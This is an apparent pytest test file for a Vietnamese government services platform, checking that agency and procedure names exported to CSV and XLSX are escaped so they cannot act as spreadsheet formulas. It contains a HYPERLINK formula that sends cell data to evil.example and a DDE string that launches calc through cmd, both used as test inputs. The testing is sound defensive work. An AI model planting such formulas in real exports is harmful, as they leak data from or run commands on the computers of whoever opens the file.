"""Attack: an agency renamed `=HYPERLINK(...)` becomes a live formula in the spreadsheets the platform exports.

Every CSV and XLSX export writes its cells through `tinhso.core.exports`: a text that starts like a formula is
stored as text (an apostrophe in CSV, a string cell in XLSX); numbers, negative ones included, stay numbers.
"""

import csv
import io
import zipfile

import openpyxl
import pytest

from tinhso.core.exports import csv_cell, csv_unescape, csv_writer, is_formula_like, xlsx_cell
from tinhso.org.models import Agency
from tinhso.org.services import agencies_export_csv, agencies_import_csv
from tinhso.procedures.models import Procedure
from tinhso.procedures.services import procedures_export_csv, procedures_import, procedures_import_file
from tinhso.procedures.tests.records import catalogue_records

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Y tế")'

pytestmark = [pytest.mark.django_db, pytest.mark.smoke]


@pytest.fixture
def poisoned(world, settings):
    settings.TINHSO_PROVINCE_CODE = world.province.code
    Agency.objects.filter(pk=world.justice.pk).update(name=PAYLOAD)
    world.justice.refresh_from_db()
    return world


def csv_cells(content: bytes | str) -> list[str]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_is_inert(content) -> None:
    cells = csv_cells(content)
    assert any(c.startswith("'" + PAYLOAD) for c in cells), "the payload should lead a cell, as text"
    assert not [c for c in cells if is_formula_like(c)]


def assert_xlsx_is_inert(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        strings = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() \
            else ""
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "a formula was stored"
    assert "HYPERLINK" in strings + "".join(sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = [c for ws in workbook for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert found
    for cell in found:
        assert cell.data_type == "s", (cell.coordinate, cell.value)


def test_agency_name_formula_is_text_in_the_agency_csv_exports(poisoned):
    assert_csv_is_inert(agencies_export_csv(agencies=Agency.objects.all()))
    for url in ("/api/v1/agencies/export.csv", "/don-vi/co-quan/xuat.csv"):
        response = poisoned.client_for("anonymous").get(url)
        assert response.status_code == 200, url
        assert_csv_is_inert(response.content)


def test_agency_csv_export_imports_back_to_the_same_name(poisoned):
    content = agencies_export_csv(agencies=Agency.objects.filter(pk=poisoned.justice.pk))
    Agency.objects.filter(pk=poisoned.justice.pk).update(name="Sở Tư pháp")
    agencies_import_csv(actor=poisoned.users["province_admin"], content=content)
    poisoned.justice.refresh_from_db()
    assert poisoned.justice.name == PAYLOAD


def test_procedure_name_formula_is_text_in_the_procedure_csv_export_and_imports_back(poisoned):
    procedures_import(actor=poisoned.users["province_admin"], records=catalogue_records())
    Procedure.objects.filter(code="1.000775").update(name=PAYLOAD)
    response = poisoned.client_for("anonymous").get("/api/v1/procedures/export?format=csv")
    assert response.status_code == 200
    assert_csv_is_inert(response.content)
    content = procedures_export_csv()
    Procedure.objects.filter(code="1.000775").update(name="Cấp Phiếu lý lịch tư pháp")
    procedures_import_file(actor=poisoned.users["province_admin"], content=content.encode(), filename="tt.csv")
    assert Procedure.objects.get(code="1.000775").name == PAYLOAD


def test_agency_name_formula_is_text_in_the_ii06a_xlsx(poisoned):
    client = poisoned.client_for("province_admin")
    response = client.get(f"/thong-ke/bieu-II.06a.xlsx?agency={poisoned.justice.identifier_code}&period=2025")
    assert response.status_code == 200, response.content[:300]
    assert_xlsx_is_inert(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_agency_name_formula_is_text_in_the_dashboard_exports(poisoned, fmt):
    client = poisoned.client_for("province_admin")
    response = client.get(f"/dashboard/co-quan/{poisoned.justice.identifier_code}/?export={fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        assert_csv_is_inert(response.content)
    else:
        assert_xlsx_is_inert(response.content)


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-2+3", "=cmd|' /C calc'!A0"])
def test_every_formula_trigger_is_neutralised(text):
    assert csv_cell(text) == "'" + text
    buffer = io.StringIO()
    csv_writer(buffer).writerow([text])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == "'" + text
    sheet = openpyxl.Workbook().active
    assert xlsx_cell(sheet, 1, 1, text).data_type == "s"


@pytest.mark.parametrize("value", [-5, -2.5, 0, 12405])
def test_negative_numbers_stay_numbers(value):
    assert csv_cell(value) == value
    cell = xlsx_cell(openpyxl.Workbook().active, 1, 1, value)
    assert cell.data_type == "n" and cell.value == value


@pytest.mark.parametrize("text", ["-2,5", "-12.405", "+3,1 %", "-80,6%", "Sở Y tế", "", "0"])
def test_displayed_numbers_and_plain_text_are_left_alone(text):
    assert csv_cell(text) == text
    assert csv_unescape(text) == text
